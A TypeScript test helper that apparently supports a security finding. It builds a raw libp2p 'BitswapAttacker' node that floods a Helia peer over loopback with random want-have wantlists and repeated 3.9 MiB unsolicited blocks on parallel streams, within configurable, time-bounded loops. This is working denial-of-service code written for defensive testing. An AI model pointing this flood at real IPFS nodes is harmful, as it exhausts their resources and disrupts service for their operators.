/**
 * A bitswap flood as a stranger sends one (issue 10, finding 7): a bare
 * libp2p node (TCP, noise, yamux, identify; no Helia, nothing of this
 * library) that speaks `/ipfs/bitswap/1.2.0` by hand. It sends wantlists of
 * random want-haves that ask for a DONT_HAVE answer, on several streams at
 * once, a new stream per message as Helia does, and optionally blocks
 * nobody asked for. It accepts the victim's bitswap streams and reads them
 * to the end, so the victim's answers cost it their full price.
 *
 * Messages are encoded here (Bitswap 1.2.0's protobuf, the few fields used):
 * @helia/bitswap keeps its codec out of its exports.
 *
 * Loopback only, an OS-chosen port; every loop is bounded by `stop()`.
 */
import { createLibp2p, type Libp2p } from 'libp2p'
import { tcp } from '@libp2p/tcp'
import { noise } from '@chainsafe/libp2p-noise'
import { yamux } from '@chainsafe/libp2p-yamux'
import { identify } from '@libp2p/identify'
import { peerIdFromString } from '@libp2p/peer-id'
import { multiaddr } from '@multiformats/multiaddr'
import type { Stream } from '@libp2p/interface'

export const BITSWAP_PROTOCOL = '/ipfs/bitswap/1.2.0'

function varint (n: number): number[] {
  const out: number[] = []
  while (n >= 0x80) {
    out.push((n & 0x7f) | 0x80)
    n = Math.floor(n / 128)
  }
  out.push(n)
  return out
}

function concat (parts: Array<Uint8Array | number[]>): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0))
  let at = 0
  for (const p of parts) {
    out.set(p, at)
    at += p.length
  }
  return out
}

/** A length-delimited protobuf field (wire type 2). */
function field (number: number, bytes: Uint8Array): Uint8Array {
  return concat([varint((number << 3) | 2), varint(bytes.length), bytes])
}

/** A varint-prefixed frame, as bitswap sends each message on its stream. */
export function frame (message: Uint8Array): Uint8Array {
  return concat([varint(message.length), message])
}

/**
 * `Message { wantlist: { entries: [{ block: cid, priority: 1, wantType: Have, sendDontHave: true }] } }`
 * (Entry: block = 1, priority = 2, wantType = 4 with Have = 1, sendDontHave = 5; Wantlist: entries = 1; Message: wantlist = 1).
 */
export function wantHaves (cids: Uint8Array[]): Uint8Array {
  const entries = cids.map(cid => field(1, concat([field(1, cid), [0x10, 0x01, 0x20, 0x01, 0x28, 0x01]])))
  return field(1, concat(entries))
}

/** `Message { payload: [{ prefix, data }] }` (Block: prefix = 1, data = 2; Message: payload = 3). */
export function blocks (list: Array<{ prefix: Uint8Array, data: Uint8Array }>): Uint8Array {
  return concat(list.map(b => field(3, concat([field(1, b.prefix), field(2, b.data)]))))
}

/** The bytes of a CIDv1 of a raw block: version, codec, sha2-256, 32 bytes of digest. */
const CID_PREFIX = [0x01, 0x55, 0x12, 0x20]

/**
 * `count` CIDs nobody has blocks for: random digests (hashing random data
 * would give the same, at a cost that would slow the test's process, which
 * times the victim's writes).
 */
export function randomCids (count: number): Uint8Array[] {
  const digests = crypto.getRandomValues(new Uint8Array(32 * count))
  return Array.from({ length: count }, (_, i) => concat([CID_PREFIX, digests.subarray(32 * i, 32 * i + 32)]))
}

/** A raw block of `size` random bytes, as bitswap sends it (CID prefix and data; the receiver hashes the data). */
export function randomBlock (size: number): { prefix: Uint8Array, data: Uint8Array } {
  const data = new Uint8Array(size)
  // getRandomValues fills at most 65,536 bytes a call
  for (let at = 0; at < size; at += 65_536) crypto.getRandomValues(data.subarray(at, Math.min(size, at + 65_536)))
  return { prefix: Uint8Array.from(CID_PREFIX), data }
}

/** Reads varint-prefixed frames from the chunks of a stream. */
class FrameReader {
  private buffer: Uint8Array = new Uint8Array(0)

  /** The frames `chunk` completes. */
  push (chunk: Uint8Array): Uint8Array[] {
    this.buffer = concat([this.buffer, chunk])
    const frames: Uint8Array[] = []
    for (;;) {
      const head = readVarint(this.buffer, 0)
      if (head == null || head.end + head.value > this.buffer.length) return frames
      frames.push(this.buffer.subarray(head.end, head.end + head.value))
      this.buffer = this.buffer.subarray(head.end + head.value)
    }
  }
}

function readVarint (bytes: Uint8Array, at: number): { value: number, end: number } | undefined {
  let value = 0
  for (let shift = 1; at < bytes.length; shift *= 128) {
    const byte = bytes[at++]!
    value += (byte & 0x7f) * shift
    if (byte < 0x80) return { value, end: at }
  }
  return undefined
}

/** How many times top-level field `number` occurs in a protobuf message (varint and length-delimited fields only, as bitswap's). */
export function countField (message: Uint8Array, number: number): number {
  let count = 0
  let at = 0
  while (at < message.length) {
    const tag = readVarint(message, at)
    if (tag == null) break
    const value = readVarint(message, tag.end)
    if (value == null) break
    if (tag.value / 8 >> 0 === number) count++
    at = (tag.value & 7) === 2 ? value.end + value.value : value.end
  }
  return count
}

export interface FloodInit {
  /** Streams sending wantlists at once. @default 4 */
  streams?: number
  /** Want-haves per message. @default 1000 */
  wantsPerMessage?: number
  /** Unsolicited blocks to send in all, one at a time. @default 0 */
  blocks?: number
  /** Size of each. @default 3.9 MiB (under bitswap's 4 MiB message limit) */
  blockBytes?: number
  /** The flood stops by itself after this long, if `stop()` was not called first. @default 60_000 */
  ms?: number
}

export interface FloodCount {
  wantHaves: number
  messages: number
  blocks: number
  /** Streams that failed (refused, reset, timed out). */
  errors: number
}

export interface Flood {
  readonly sent: FloodCount
  /** Resolves once `wantHaves` want-haves have been sent; rejects after `ms`. */
  sentAtLeast(wantHaves: number, ms?: number): Promise<void>
  /** Ends every loop and waits for them (each ends by itself after `FloodInit.ms`). */
  stop(): Promise<void>
}

export class BitswapAttacker {
  readonly libp2p: Libp2p
  /** Block presences (answers to want-haves: HAVE, DONT_HAVE) the victim sent back, in all. */
  presences = 0

  private constructor (libp2p: Libp2p) {
    this.libp2p = libp2p
  }

  static async start (): Promise<BitswapAttacker> {
    const libp2p = await createLibp2p({
      addresses: { listen: ['/ip4/127.0.0.1/tcp/0'] },
      transports: [tcp()],
      connectionEncrypters: [noise()],
      streamMuxers: [yamux()],
      services: { identify: identify() }
    })
    const attacker = new BitswapAttacker(libp2p)
    // the victim's answers are read, and their block presences counted
    await libp2p.handle(BITSWAP_PROTOCOL, (stream: Stream) => {
      const frames = new FrameReader()
      stream.addEventListener('message', (evt: any) => {
        for (const message of frames.push(evt.data.subarray())) attacker.presences += countField(message, 4)
      })
      stream.addEventListener('remoteCloseWrite', () => { void stream.close().catch(() => {}) })
    }, { maxInboundStreams: 1024 })
    return attacker
  }

  /** Connect to `addr` (with /p2p/<peer id>) and flood it until `stop()`. */
  async flood (addr: string, init: FloodInit = {}): Promise<Flood> {
    const target = multiaddr(addr)
    const peer = peerIdFromString(target.getComponents().find(c => c.name === 'p2p')?.value ?? '')
    await this.libp2p.dial(target)
    const sent: FloodCount = { wantHaves: 0, messages: 0, blocks: 0, errors: 0 }
    const waiters: Array<{ at: number, resolve: () => void }> = []
    const state = { stopped: false }
    const deadline = Date.now() + (init.ms ?? 60_000)
    const going = (): boolean => !state.stopped && Date.now() < deadline
    const send = async (message: Uint8Array): Promise<void> => {
      const stream = await this.libp2p.dialProtocol(peer, BITSWAP_PROTOCOL, { signal: AbortSignal.timeout(5_000) })
      try {
        if (!stream.send(frame(message))) await stream.onDrain({ signal: AbortSignal.timeout(5_000) })
        await stream.close({ signal: AbortSignal.timeout(5_000) })
      } catch (err) {
        stream.abort(err as Error)
        throw err
      }
    }
    const wantsPerMessage = init.wantsPerMessage ?? 1000
    const wants = async (): Promise<void> => {
      while (going()) {
        try {
          await send(wantHaves(randomCids(wantsPerMessage)))
          sent.wantHaves += wantsPerMessage
          sent.messages++
          for (const w of waiters.filter(w => sent.wantHaves >= w.at)) {
            waiters.splice(waiters.indexOf(w), 1)
            w.resolve()
          }
        } catch {
          sent.errors++
          // a refused stream fails at once: yield before the next, so a loop cannot spin
          await new Promise(resolve => setImmediate(resolve))
        }
      }
    }
    // one block, sent again and again: the victim hashes each copy all the same
    const block = (init.blocks ?? 0) > 0 ? blocks([randomBlock(init.blockBytes ?? Math.round(3.9 * 1024 * 1024))]) : undefined
    const unsolicited = async (): Promise<void> => {
      if (block == null) return
      while (going() && sent.blocks < (init.blocks ?? 0)) {
        try {
          await send(block)
          sent.blocks++
        } catch {
          sent.errors++
          await new Promise(resolve => setImmediate(resolve))
        }
      }
    }
    const loops = [...Array.from({ length: init.streams ?? 4 }, wants), unsolicited()]
    return {
      sent,
      sentAtLeast: async (wantHaves, ms = 15_000) => {
        if (sent.wantHaves >= wantHaves) return
        await new Promise<void>((resolve, reject) => {
          const timer = setTimeout(() => { reject(new Error(`only ${sent.wantHaves} of ${wantHaves} want-haves sent within ${ms} ms (${sent.errors} streams failed)`)) }, ms)
          waiters.push({ at: wantHaves, resolve: () => { clearTimeout(timer); resolve() } })
        })
      },
      stop: async () => {
        state.stopped = true
        await Promise.allSettled(loops)
      }
    }
  }

  async stop (): Promise<void> {
    await this.libp2p.stop()
  }
}
